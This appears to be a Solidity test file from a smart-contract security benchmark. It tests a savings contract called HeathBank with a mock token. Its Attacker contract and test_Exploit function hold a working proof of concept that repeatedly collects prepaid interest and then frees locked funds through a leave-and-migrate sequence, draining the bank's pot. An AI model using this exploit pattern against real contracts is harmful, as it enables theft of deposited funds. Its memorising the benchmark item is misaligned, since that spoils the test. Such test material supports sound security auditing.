// SPDX-License-Identifier: EUPL-1.2
pragma solidity 0.8.19;

// assay-canary-3bf2f6d5-7bef-4490-a25a-430747510004

import "./HeathBank.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Thaler is ICoin {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    address private deaf;

    /// What this account sends by itself is answered with no.
    function deafen(address who) external {
        require(msg.sender == minter, "minter only");
        deaf = who;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (msg.sender == deaf) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Saver {
    HeathBank internal bank;

    constructor(HeathBank bank_, Thaler thaler) {
        bank = bank_;
        thaler.approve(address(bank_), type(uint256).max);
    }

    function openBox() public returns (Strongbox) {
        return bank.openBox();
    }

    function commit(Strongbox box, uint96 amount, uint256 period) public {
        bank.commit(box, amount, period);
    }

    function migrate(Strongbox from, Strongbox to) public {
        bank.migrate(from, to);
    }

    function leave(Strongbox box) public {
        bank.leave(box);
    }

    function takeOut(Strongbox box, uint256 amount) public {
        box.takeOut(amount);
    }
}

/// A saver in a hurry.
contract Attacker is Saver {
    Thaler internal thaler;

    constructor(HeathBank bank_, Thaler thaler_) Saver(bank_, thaler_) {
        thaler = thaler_;
    }

    function round() external {
        Strongbox long = openBox();
        Strongbox none = openBox();
        commit(none, 1e6, 0);
        commit(long, uint96(thaler.balanceOf(address(this))), 360 days);
        leave(long);
        migrate(none, long);
        takeOut(long, thaler.balanceOf(address(long)));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;

    Thaler public thaler;
    HeathBank public bank;
    Saver public saver;
    Attacker public hurried;

    function setUp() public {
        vm.warp(START);
        thaler = new Thaler();
        bank = new HeathBank(thaler);
        saver = new Saver(bank, thaler);
        hurried = new Attacker(bank, thaler);
        thaler.mint(address(this), 50_000e6);
        thaler.approve(address(bank), type(uint256).max);
        bank.fillPot(50_000e6);
        thaler.mint(address(saver), 10_000e6);
        thaler.mint(address(hurried), 100_001e6);
    }

    function test_Regular() public {
        Strongbox one = saver.openBox();
        Strongbox two = saver.openBox();
        Strongbox foreign = hurried.openBox();

        // Interest in advance, coins locked.
        saver.commit(one, 10_000e6, 360 days);
        require(thaler.balanceOf(address(saver)) == 800e6 && bank.pot() == 49_200e6, "interest");
        require(bank.votesOf(address(saver)) == 40_000e6, "votes");
        try saver.takeOut(one, 1) {
            revert("locked");
        } catch {}
        try saver.commit(one, 100e6, 0) {
            revert("box in use");
        } catch {}
        try saver.commit(two, 100e6, 91 days) {
            revert("no such period");
        } catch {}
        try saver.migrate(one, foreign) {
            revert("box of somebody else");
        } catch {}
        try hurried.leave(one) {
            revert("left for somebody else");
        } catch {}

        // The account moves with its lock.
        saver.migrate(one, two);
        require(thaler.balanceOf(address(two)) == 10_000e6 && two.lockedUntil() == START + 360 days, "moved");
        require(bank.totalVotes() == 40_000e6, "votes have moved");
        try saver.takeOut(two, 1) {
            revert("still locked");
        } catch {}
        try saver.commit(one, 100e6, 0) {
            revert("former box");
        } catch {}
        one = saver.openBox();
        saver.commit(one, 100e6, 90 days);
        try saver.migrate(one, two) {
            revert("other box in use");
        } catch {}

        // Leaving ends the account, not the lock.
        saver.leave(two);
        require(bank.totalVotes() == 100e6, "votes are gone");
        try saver.takeOut(two, 1) {
            revert("locked after leaving");
        } catch {}
        try saver.commit(two, 100e6, 0) {
            revert("commit into a box that has left");
        } catch {}
        vm.warp(START + 360 days);
        saver.takeOut(two, 10_000e6);
        saver.takeOut(one, 40e6);
        require(bank.totalVotes() == 60e6, "votes in part");
        saver.takeOut(one, 60e6);
        require(thaler.balanceOf(address(saver)) == 10_801_500_000, "all back with interest");

        // An empty box may be used again.
        saver.commit(one, 100e6, 0);
        saver.takeOut(one, 100e6);
        bank.takeFromPot(bank.pot());
        try saver.commit(one, 100e6, 90 days) {
            revert("empty pot");
        } catch {}
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Boxes are their savers', the pot is the director's.
    function test_RefusesStrangers() public {
        Strongbox one = saver.openBox();
        Strongbox two = saver.openBox();
        Strongbox own = hurried.openBox();
        refuses(address(hurried), "HeathBank: not yours");
        bank.commit(one, 1e6, 0);
        refuses(address(saver), "HeathBank: director only");
        bank.takeFromPot(1);
        saver.commit(one, 1e6, 0);
        refuses(address(hurried), "HeathBank: not yours");
        bank.migrate(one, own);
        refuses(address(saver), "HeathBank: nothing to move");
        bank.migrate(two, two);
        refuses(address(saver), "HeathBank: no account");
        bank.leave(two);
    }

    /// Boxes that the bank did not open.
    function test_RefusesOtherBoxes() public {
        Strongbox one = saver.openBox();
        saver.commit(one, 1e6, 0);
        Strongbox foreign = new Strongbox(thaler, address(saver));
        refuses(address(saver), "HeathBank: no box");
        bank.commit(foreign, 1e6, 0);
        refuses(address(saver), "HeathBank: no box");
        bank.migrate(foreign, one);
        refuses(address(saver), "HeathBank: no box");
        bank.migrate(one, foreign);
        refuses(address(saver), "HeathBank: no box");
        bank.leave(foreign);
    }

    /// Amounts that are too little or too much, and coins that say no.
    function test_RefusesAmounts() public {
        Strongbox one = saver.openBox();
        refuses(address(saver), "HeathBank: too little");
        bank.commit(one, 1e6 - 1, 0);
        refuses(address(saver), "HeathBank: pot is empty");
        bank.commit(one, 700_000e6, 360 days);
        thaler.sleep(true);
        vm.expectRevert("HeathBank: transfer");
        bank.fillPot(1);
        refuses(address(saver), "HeathBank: transfer");
        bank.commit(one, 1e6, 0);
        thaler.sleep(false);
        thaler.deafen(address(bank));
        vm.expectRevert("HeathBank: transfer");
        bank.takeFromPot(1);
        refuses(address(saver), "HeathBank: transfer");
        bank.commit(one, 1e6, 0);
    }

    function exploit() public {
        for (uint256 i = 0; i < 4; i++) {
            hurried.round();
        }
    }

    function test_Exploit() public {
        uint256 before = thaler.balanceOf(address(hurried));
        exploit();
        require(thaler.balanceOf(address(hurried)) >= before + 36_000e6, "no interest without time");
    }

    function target() public view returns (address) {
        return address(bank);
    }

    function attacker() public view returns (address) {
        return address(hurried);
    }
}
